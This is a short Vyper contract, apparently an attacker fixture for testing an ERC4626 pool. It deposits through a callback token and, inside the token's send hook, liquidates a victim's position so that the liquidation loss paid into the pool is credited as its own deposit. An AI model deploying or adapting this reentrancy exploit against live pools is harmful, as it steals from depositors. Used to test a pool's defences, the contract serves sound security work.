# pragma version 0.4.3
"""
@title Hungry depositor
@notice An attacker. While the pool takes its deposit the token calls it, and it liquidates somebody whose loss is paid
        into the pool in the midst of that: a pool that counts all that has come in takes it for the deposit.
"""

from ethereum.ercs import IERC20
from ethereum.ercs import IERC4626


interface CallbackToken:
    def register(called: bool): nonpayable


interface Market:
    def liquidate(id: uint256) -> uint256: nonpayable


TOKEN: immutable(address)
MARKET: immutable(Market)
POOL: immutable(IERC4626)

victim: uint256  # position to be liquidated in the midst of the deposit; 0 for none


@deploy
def __init__(token: address, market: address, pool: address):
    """
    @param token One that calls back.
    @param market The market.
    @param pool Its pool.
    """
    TOKEN = token
    MARKET = Market(market)
    POOL = IERC4626(pool)


@external
def attack(amount: uint256, victim: uint256):
    """
    @notice Deposits, and liquidates in the midst of it.
    @param amount Token units that this contract holds.
    @param victim A position below maintenance.
    """
    self.victim = victim
    extcall CallbackToken(TOKEN).register(True)
    extcall IERC20(TOKEN).approve(POOL.address, amount)
    extcall POOL.deposit(amount, self)


@external
def tokens_to_send(sender: address, receiver: address, amount: uint256):
    """
    @notice The pool has noted its balance, and the deposit has not moved yet.
    """
    if self.victim != 0:
        id: uint256 = self.victim
        self.victim = 0
        extcall MARKET.liquidate(id)


@external
def tokens_received(sender: address, receiver: address, amount: uint256):
    """
    @notice The reward of the liquidation arrives; nothing to do.
    """
    pass
